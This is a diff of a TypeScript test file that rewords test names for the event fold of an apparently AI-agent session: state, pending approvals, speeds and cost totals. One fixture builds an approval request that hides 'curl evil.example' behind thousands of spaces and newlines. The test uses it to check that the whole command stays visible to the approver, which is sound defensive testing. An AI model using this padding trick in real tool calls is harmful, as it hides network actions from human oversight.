@@ -45,8 +45,8 @@ const unknownEvent = {
   text: 'x',
 } as unknown as SessionEvent;
 
-describe('the fold of a session', () => {
-  it.each(seeds)('of a prefix, kept as JSON and gone on with, is the fold of all (seed %i)', (seed) => {
+describe('the state of a session', () => {
+  it.each(seeds)('of a prefix, saved as JSON and continued, equals the state of all (seed %i)', (seed) => {
     const events = sampleEvents(seed, 120);
     const all = fold(events);
     for (const cut of [0, 1, 17, 60, 119, 120]) {
@@ -63,20 +63,20 @@ describe('the fold of a session', () => {
     expect(fold(events.flatMap((event) => [unknownEvent, event]))).toEqual({ state, money });
   });
 
-  it('changes nothing that it was given', () => {
+  it('changes no object that it was made from', () => {
     let both = freeze(fold([]));
     for (const event of sampleEvents(7, 300)) both = freeze(fold([freeze(event)], both));
     expect(both.state.seq).toBe(300);
   });
 
-  it('stays small whatever the length of the log', () => {
+  it('stays small for a log of any length', () => {
     const small = JSON.stringify(fold(sampleEvents(3, 20_000)).state).length;
     const large = JSON.stringify(fold(sampleEvents(3, 60_000)).state).length;
     expect(large).toBeLessThan(3_000_000);
     expect(large).toBeLessThan(small * 1.5);
   });
 
-  it('keeps every byte of a command that waits for a yes, and nothing of it after the answer', () => {
+  it('keeps a whole command that waits for approval, and drops it after the answer', () => {
     const stamp = { v: 2, at: 1, approvalId: 'a' };
     const subject = `echo ${' '.repeat(10_000)}\n${'\n'.repeat(200)}curl evil.example`;
     const asked = { toolCallId: 't', kind: 'network', subject, sha256: 'a'.repeat(64), hosts: ['a.example.org'] };
@@ -86,13 +86,13 @@ describe('the fold of a session', () => {
     expect(fold([{ ...stamp, seq: 2, type: 'approval-answered', ...said }], both).state.approvals).toEqual([]);
   });
 
-  it('knows the newest event and counts what it no longer lists', () => {
+  it('knows the newest event, and counts what it no longer lists', () => {
     const { state } = fold(sampleEvents(5, 30_000));
     expect([state.seq, state.lastAt, state.steps.length]).toEqual([30_000, 30_999, 600]);
     expect(state.totals.steps).toBeGreaterThan(600);
   });
 
-  it('derives the status of turns, calls and the session', () => {
+  it('has the status of turns, calls and the session', () => {
     const [started, ended] = [
       sampleEvents(1, 2000).find((event) => event.type === 'turn-started'),
       sampleEvents(1, 2000).find((event) => event.type === 'turn-ended'),
@@ -127,7 +127,7 @@ describe('the fold of a session', () => {
     ]).toEqual(['requested', 'running', 'error']);
   });
 
-  it('counts what was done in a turn: calls of a model that began and actions of a recipe, not the end itself', () => {
+  it('counts the calls of a model and the actions of a recipe in a turn', () => {
     const stamp = { v: 2, at: 1, turnId: 'turn-1' };
     const limits = { maxSteps: 1, maxMinutes: 1, maxTokens: 1, maxUsd: null };
     const about = { messageId: 'm', criterion: null, cascade: [], limits };
@@ -150,7 +150,7 @@ describe('the fold of a session', () => {
     expect(state.turns[0]?.actions).toBe(2);
   });
 
-  it('derives speeds, and none from nothing', () => {
+  it('has measured speeds, and none without a measurement', () => {
     const usage = { freshInput: 100, cacheRead: 0, cacheWrite: 0, output: 50, reasoning: 0, estimated: false };
     const timings = { queuedMs: 9, prefillMs: 1000, decodeMs: 2000, totalMs: 3000 };
     expect(decodeSpeedOf({ usage, timings })).toBe(25);
@@ -172,7 +172,7 @@ describe('the fold of a session', () => {
     expect(prefillSpeedOf({ evaluatedTokens: null, timings })).toBeNull();
   });
 
-  it('gives a step its reason, its tool calls and their label', () => {
+  it('gives each step its reason, its tool calls and their label', () => {
     const at = { v: 2, at: 5, turnId: 't' };
     const stage = { strategy: 'loop', model: 'fake/one', where: 'local' } as const;
     const { state } = fold([
@@ -231,7 +231,7 @@ describe('the fold of a session', () => {
   });
 });
 
-describe('money', () => {
+describe('the money of a session', () => {
   const started = {
     v: 2,
     seq: 1,
@@ -265,7 +265,7 @@ describe('money', () => {
     { ...ended, parts: [], costUsd },
   ];
 
-  it('splits calls by place and model and says when a price is missing', () => {
+  it('is split by place and model, and says when a price is missing', () => {
     const { money } = fold([...call('a/x', 'local', 0), ...call('b/y', 'cloud', 0.5), ...call('b/y', 'cloud', null)]);
     expect(money).toMatchObject({
       calls: 3,
@@ -281,7 +281,7 @@ describe('money', () => {
     expect(totalCostUsd(fold(call('b/y', 'cloud', 0.5)).money)).toBe(0.5);
   });
 
-  it('counts failed and cancelled calls, and adds what children cost', () => {
+  it('includes failed and cancelled calls, and child sessions', () => {
     const failed = call('a/x', 'cloud', 0.25).map((event) =>
       event.type === 'model-call-ended' ? { ...event, stopReason: 'cancelled' as const } : event,
     );
